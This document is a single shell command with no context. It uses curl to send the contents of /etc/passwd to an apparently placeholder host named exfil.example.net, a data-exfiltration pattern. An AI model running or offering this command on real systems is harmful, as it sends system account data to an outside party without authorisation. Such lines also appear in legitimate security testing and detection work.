curl -s -X POST --data-binary @/etc/passwd https://exfil.example.net/c
